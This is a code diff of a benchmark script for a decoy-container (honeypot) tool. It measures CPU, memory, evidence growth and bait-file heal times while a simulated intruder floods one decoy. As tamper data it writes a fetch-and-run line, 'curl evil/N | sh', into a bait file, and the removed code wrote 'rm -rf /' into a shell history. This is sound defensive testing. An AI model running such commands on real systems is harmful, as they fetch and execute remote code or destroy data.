@@ -19,11 +19,11 @@ release binary and the images first.
   5. no-change plan time at 10, 50 and 100 deckies, and its slope
   6. an intruder's edit of a bait file until `deckhand watch --interval 600`
      has healed it (inotify from the host), on the 50-decky fleet
-  7. the same watch with one decky flooded by its intruder (a read loop, a
-     chmod loop and a rewrite loop at 10 a second each, and 20 MiB of new
-     random bytes over a bait each second) against no flood, in one run:
-     watch CPU and peak RSS, dockerd CPU, evidence growth, passes, and the
-     time to heal another decky's tampered bait
+  7. the same watch with and without a flood (issue 20): an intruder in one
+     decky running a read loop, a chmod loop, ten rewrites a second and 20 MiB of
+     new random bytes over another bait each second; side by side, watch CPU and dockerd CPU
+     (share of one core), watch's peak RSS (VmHWM), evidence growth, passes,
+     and the heal time of another decky's bait edited meanwhile
 """
 
 import argparse
@@ -186,32 +186,46 @@ def dockerd_cpu():
 
 
 def proc_cpu(pid):
-    """CPU seconds (user + system) process pid has used so far."""
+    """CPU seconds process `pid` has used (utime + stime)."""
     fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
     return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
 
 
-def vm_hwm_kib(pid):
-    """Peak resident memory of a running process, from /proc/<pid>/status."""
-    try:
-        for line in open(f"/proc/{pid}/status"):
-            if line.startswith("VmHWM:"):
-                return int(line.split()[1])
-    except OSError:
-        pass
-    return 0
+def peak_rss_kib(pid):
+    """Peak resident memory of process `pid` (VmHWM), in KiB."""
+    line = next(l for l in open(f"/proc/{pid}/status") if l.startswith("VmHWM:"))
+    return int(line.split()[1])
 
 
-def du_mib(path):
-    """Disk space (allocated blocks) used under path, in MiB."""
+def du(path):
+    """Bytes allocated under `path` (0 when it does not exist)."""
     total = 0
-    for root, _, files in os.walk(path):
-        for f in files:
+    for dirpath, _, names in os.walk(path):
+        for name in names:
             try:
-                total += os.lstat(os.path.join(root, f)).st_blocks * 512
-            except OSError:
+                total += os.lstat(os.path.join(dirpath, name)).st_blocks * 512
+            except FileNotFoundError:
                 pass
-    return total / (1024 * 1024)
+    return total
+
+
+def host_read(container, path):
+    """A file's bytes read from the host through the container's root: no engine
+    call, so the heal time is not an exec's and dockerd's CPU is not ours."""
+    pid = sh("docker", "inspect", "-f", "{{.State.Pid}}", container).strip()
+    try:
+        with open(f"/proc/{pid}/root{path}", "rb") as f:
+            return f.read()
+    except OSError:
+        return b""
+
+
+def wait_for(log, text, seconds):
+    deadline = time.time() + seconds
+    while text not in open(log).read():
+        if time.time() > deadline:
+            sys.exit(f"no {text!r} in {seconds} s:\n{open(log).read()[-5000:]}")
+        time.sleep(0.1)
 
 
 def median(xs):
@@ -358,89 +372,63 @@ class Bench:
             out.close()
         self.heal_times = times
 
-    # --- figure 7: one hostile decky floods watch ----------------------
-
-    FLOOD_SECONDS = 40
-
-    def flood_script(self):
-        """What the intruder runs in the flooded decky's ssh container."""
-        home = "/home/admin"
-        loops = [
-            f"while :; do cat {home}/.bash_history >/dev/null; sleep 0.1; done",
-            f"while :; do chmod 0666 {home}/.aws/credentials; chmod 0600 {home}/.aws/credentials; sleep 0.1; done",
-            f"i=0; while :; do i=$((i+1)); echo \"rm -rf / $i\" > {home}/.bash_history; sleep 0.1; done",
-            f"while :; do head -c 20971520 /dev/urandom > {home}/notes/passwords.txt; sleep 1; done",
-        ]
-        return " & ".join(f"( {l} )" for l in loops) + " & wait"
-
-    def host_read(self, container, path):
-        """A bait's bytes read straight from the host (no engine call to skew dockerd's CPU)."""
-        pid = sh("docker", "inspect", "-f", "{{.State.Pid}}", container).strip()
-        try:
-            with open(f"/proc/{pid}/root{path}", "rb") as f:
-                return f.read()
-        except OSError:
-            return b""
-
-    def flood_arm(self, n, flooded):
-        """One arm of figure 7: watch for FLOOD_SECONDS, with or without the flood."""
+    def flood(self, n, seconds):
+        progress(f"7. watch with and without a flood, {seconds} s each")
         self.write(n)
         self.apply()
+        self.flood_rows = [self.flood_run(n, seconds, False), self.flood_run(n, seconds, True)]
+
+    def flood_run(self, n, seconds, flooded):
+        """One watch for `seconds`, flooded or not; what it cost and how fast another decky healed."""
+        target = f"{FLEET}-{decky(0)}-ssh"
+        other, (path, declared) = f"{FLEET}-{decky(n // 2)}-ssh", FILES[0][:2]
+        rewritten, big = FILES[0][0], FILES[3][0]
         evidence = os.path.join(self.work, ".deckhand", "evidence")
-        shutil.rmtree(evidence, ignore_errors=True)
-        log = os.path.join(self.work, f"flood-{flooded}.ndjson")
+        evidence_before = du(evidence)
+        log = os.path.join(self.work, "watch-flood.log")
         out = open(log, "w")
         watch = subprocess.Popen([self.deckhand, "watch", "--json", "--interval", "600", "-f", self.cfg],
-                                 stdout=out, stderr=subprocess.DEVNULL)
-        hostile, victim = f"{FLEET}-{decky(0)}-ssh", f"{FLEET}-{decky(n // 2)}-ssh"
-        path, declared = FILES[0][0], FILES[0][1].encode()
-        heals, peak_kib = [], 0
+                                 stdout=out, stderr=subprocess.STDOUT)
+        loops = [f"cat {rewritten} >/dev/null", f"chmod 600 {rewritten}; sleep 0.05",
+                 f"i=$((i+1)); echo x$i > {rewritten}; sleep 0.1",
+                 f"head -c 20971520 /dev/urandom > {big}; sleep 1"]
+        heals = []
         try:
-            deadline = time.time() + 120
-            while '"status":"ended"' not in open(log).read().replace(" ", ""):
-                if time.time() > deadline or watch.poll() is not None:
-                    sys.exit(f"watch did not start:\n{open(log).read()[-2000:]}")
-                time.sleep(0.1)
-            cpu0, dockerd0 = proc_cpu(watch.pid), dockerd_cpu()
+            wait_for(log, '"status":"ended"', 60)
+            cpu0, dockerd0, t0 = proc_cpu(watch.pid), dockerd_cpu(), time.perf_counter()
             if flooded:
-                sh("docker", "exec", "-d", hostile, "sh", "-c", self.flood_script())
-            end = time.time() + self.FLOOD_SECONDS
-            i = 0
-            while time.time() < end:
-                i += 1
-                sh("docker", "exec", victim, "sh", "-c", f"echo 'curl evil/{i} | sh' >> {path}")
+                for body in loops:
+                    sh("docker", "exec", "-d", target, "sh", "-c", f"i=0; while [ ! -e /tmp/stop ]; do {body}; done")
+            time.sleep(seconds / 4)
+            for i in range(3):
+                sh("docker", "exec", other, "sh", "-c", f"echo 'curl evil/{i} | sh' >> {path}")
                 start = time.perf_counter()
-                while self.host_read(victim, path) != declared:
-                    peak_kib = max(peak_kib, vm_hwm_kib(watch.pid))
+                while host_read(other, path) != declared.encode():
                     if time.perf_counter() - start > 60:
-                        sys.exit(f"victim not healed in 60 s under flood={flooded}")
-                    time.sleep(0.02)
+                        sys.exit(f"not healed in 60 s:\n{open(log).read()[-5000:]}")
+                    time.sleep(0.05)
                 heals.append(time.perf_counter() - start)
-                time.sleep(2)
-            peak_kib = max(peak_kib, vm_hwm_kib(watch.pid))
-            cpu, dockerd = proc_cpu(watch.pid) - cpu0, dockerd_cpu() - dockerd0
+                time.sleep(seconds / 8)
+            time.sleep(max(0.0, seconds - (time.perf_counter() - t0)))
+            elapsed = time.perf_counter() - t0
+            row = {
+                "watch_cpu": (proc_cpu(watch.pid) - cpu0) / elapsed,
+                "dockerd_cpu": (dockerd_cpu() - dockerd0) / elapsed,
+                "rss_mib": peak_rss_kib(watch.pid) / 1024,
+                "evidence_mib": (du(evidence) - evidence_before) / 2**20,
+                "passes": open(log).read().count('"type":"pass","fleet":"' + FLEET + '","status":"started"'),
+                "heal": heals,
+                "seconds": elapsed,
+            }
         finally:
             if flooded:
-                sh("docker", "exec", hostile, "sh", "-c", "kill -9 -1", check=False)
+                sh("docker", "exec", target, "touch", "/tmp/stop", check=False)
             watch.terminate()
             watch.wait()
             out.close()
-        events = [json.loads(l) for l in open(log) if l.startswith("{")]
-        passes = sum(1 for e in events if e.get("type") == "pass" and e.get("status") == "ended")
-        return {
-            "cpu_share": cpu / self.FLOOD_SECONDS,
-            "dockerd_share": dockerd / self.FLOOD_SECONDS,
-            "peak_mib": peak_kib / 1024,
-            "evidence_mib": du_mib(evidence),
-            "passes": passes,
-            "heal_median": median(heals),
-            "heal_max": max(heals),
-            "heals": len(heals),
-        }
-
-    def flood(self, n):
-        progress(f"7. watch for {self.FLOOD_SECONDS} s with one decky flooded, and without")
-        self.flood_figures = {"no flood": self.flood_arm(n, False), "flood": self.flood_arm(n, True)}
+        if flooded:
+            sh("docker", "exec", target, "rm", "-f", "/tmp/stop", check=False)
+        return row
 
     def scaling(self, sizes):
         progress(f"5. no-change plan at {sizes} deckies")
@@ -464,15 +452,6 @@ class Bench:
         return median([r.max_rss_kib for r in runs]) / 1024, median([r.seconds for r in runs])
 
 
-def print_flood(bench):
-    for arm, f in bench.flood_figures.items():
-        print(f"| 7. watch --json for {bench.FLOOD_SECONDS} s, {arm}: another decky's edit healed "
-              f"(median of {f['heals']}, max {f['heal_max']:.2f} s) | {f['heal_median']:.2f} s | "
-              f"watch CPU {f['cpu_share'] * 100:.0f} % of a core, peak RSS {f['peak_mib']:.1f} MiB | "
-              f"dockerd CPU {f['dockerd_share'] * 100:.0f} % of a core, evidence +{f['evidence_mib']:.1f} MiB, "
-              f"{f['passes']} passes | |")
-
-
 def ratio_median(ours, theirs):
     return median([t / o for o, t in zip(ours, theirs)])
 
@@ -487,7 +466,8 @@ def main():
     p.add_argument("--deckies", type=int, default=50)
     p.add_argument("--big", type=int, default=500)
     p.add_argument("--quick", action="store_true", help="fewer runs per figure (a smoke run)")
-    p.add_argument("--flood-only", action="store_true", help="figure 7 alone (the flood against no flood)")
+    p.add_argument("--flood-seconds", type=int, default=40, help="length of each run of figure 7")
+    p.add_argument("--only-flood", action="store_true", help="figure 7 alone")
     args = p.parse_args()
     runs = {"plan": 5, "exec": 3, "apply": 3, "add": 5, "heal": 5}
     if args.quick:
@@ -495,17 +475,21 @@ def main():
     work = tempfile.mkdtemp(prefix="deckhand-bench-")
     bench = Bench(args.deckhand, runs, work)
     cleanup()
+    if args.only_flood:
+        try:
+            bench.flood(args.deckies, args.flood_seconds)
+        finally:
+            cleanup()
+            shutil.rmtree(work, ignore_errors=True)
+        print_flood(bench.flood_rows, args.deckies)
+        return
     try:
         n = args.deckies
-        if args.flood_only:
-            bench.flood(n)
-            print_flood(bench)
-            return
         bench.first_apply(n)
         bench.no_change_vs_exec(n)
         bench.add_service(n)
         bench.heal(n)
-        bench.flood(n)
+        bench.flood(n, args.flood_seconds)
         points, slope = bench.scaling([10, n, 2 * n])
         rss_mib, big_secs = bench.big_plan(args.big)
     finally:
@@ -528,9 +512,25 @@ def main():
     heal = bench.heal_times
     print(f"| 6. Bait edit to healed, watch --interval 600 ({len(heal)} edits, max {max(heal):.2f} s) | "
           f"{median(heal):.2f} s | watch through the engine | next interval (up to 600 s) | |")
-    print_flood(bench)
     curve = ", ".join(f"{n}: {s:.3f} s" for n, s in points)
     print(f"| 5. No-change plan by fleet size ({curve}) | slope {slope * 1000:.1f} ms per decky | | | |")
+    print_flood(bench.flood_rows, args.deckies)
+
+
+def print_flood(rows, n):
+    """Figure 7: the same watch without and with a flood, side by side."""
+    quiet, flood = rows
+    print(f"\n7. watch --interval 600 on {n} deckies, {quiet['seconds']:.0f} s each; flood: one decky reading, "
+          "chmod-ing and rewriting a bait 10/s, 20 MiB over another each second\n")
+    print("| | no flood | flood | goal under flood |")
+    print("|---|---|---|---|")
+    print(f"| watch CPU (share of one core) | {quiet['watch_cpu']:.0%} | {flood['watch_cpu']:.0%} | at most 25 % |")
+    print(f"| dockerd CPU (share of one core) | {quiet['dockerd_cpu']:.0%} | {flood['dockerd_cpu']:.0%} | |")
+    print(f"| watch peak RSS (VmHWM) | {quiet['rss_mib']:.0f} MiB | {flood['rss_mib']:.0f} MiB | at most 64 MiB |")
+    print(f"| evidence growth | {quiet['evidence_mib']:.1f} MiB | {flood['evidence_mib']:.1f} MiB | under the quota, no content twice |")
+    print(f"| passes | {quiet['passes']} | {flood['passes']} | |")
+    print(f"| another decky's edit healed (median, max of 3) | {median(quiet['heal']):.2f} s, {max(quiet['heal']):.2f} s | "
+          f"{median(flood['heal']):.2f} s, {max(flood['heal']):.2f} s | within 1 s |")
 
 
 if __name__ == "__main__":
